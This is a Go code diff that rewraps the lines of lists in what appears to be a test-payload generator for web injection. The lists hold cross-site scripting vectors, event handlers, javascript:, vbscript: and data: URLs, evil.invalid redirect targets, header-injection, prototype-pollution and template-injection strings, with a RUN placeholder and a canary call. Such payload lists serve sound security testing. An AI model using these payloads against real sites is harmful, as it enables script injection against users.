@@ -50,7 +50,8 @@ func Payloads() []Payload {
 
 // exits leave what a text may stand in.
 var exits = []string{
-	"", `">`, `'>`, "-->", "</title>", "</textarea>", "</option></select>", "</script>", "</style>", "</template>", "</time></td></tr></table>", "]]>",
+	"", `">`, `'>`, "-->", "</title>", "</textarea>", "</option></select>", "</script>", "</style>", "</template>",
+	"</time></td></tr></table>", "]]>",
 }
 
 // vectors run something as soon as they are markup.
@@ -69,24 +70,29 @@ var vectors = []string{
 	`<meta http-equiv=refresh content="0;url=javascript:RUN">`,
 }
 
-var handlers = []string{"onfocus", "autofocus onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onload", "onerror", "hx-on:load", "hx-on::after:init"}
+var handlers = []string{"onfocus", "autofocus onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onload",
+	"onerror", "hx-on:load", "hx-on::after:init"}
 
 // addresses run when a link or form leads to them.
 var addresses = []string{
-	"javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", "javascript://%0aRUN",
-	"vbscript:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDApPC9zY3JpcHQ+",
+	"javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN",
+	"javascript://%0aRUN",
+	"vbscript:RUN", "data:text/html,<script>RUN</script>",
+	"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDApPC9zY3JpcHQ+",
 	"//evil.invalid/RUN", `\\evil.invalid\RUN`, "https:evil.invalid/RUN", "/console\r\nX-Injected: RUN",
 }
 
 // scripts run where a text is pasted into a program or a JSON document.
 var scripts = []string{
-	`";RUN;//`, `';RUN;//`, "`;RUN;//", "${RUN}", `\";RUN;//`, `\';RUN;//`, `"-RUN-"`, `'-RUN-'`, "*/RUN/*", "\u2028RUN\u2029", `</script><script>RUN//`,
+	`";RUN;//`, `';RUN;//`, "`;RUN;//", "${RUN}", `\";RUN;//`, `\';RUN;//`, `"-RUN-"`, `'-RUN-'`, "*/RUN/*",
+	"\u2028RUN\u2029", `</script><script>RUN//`,
 	`<!--<script>`, `{"__proto__":{"x":"RUN"}}`,
 }
 
 // templates run where a text is taken for a template or an expression.
 var templates = []string{
-	"{{RUN}}", "{{constructor.constructor('RUN')()}}", "{{.}}{{html RUN}}", "<%= RUN %>", "#{RUN}", "[[RUN]]", "{%RUN%}", "*{RUN}", "@{RUN}", "%{RUN}",
+	"{{RUN}}", "{{constructor.constructor('RUN')()}}", "{{.}}{{html RUN}}", "<%= RUN %>", "#{RUN}", "[[RUN]]", "{%RUN%}",
+	"*{RUN}", "@{RUN}", "%{RUN}",
 }
 
 // disguises change the looks of a payload.
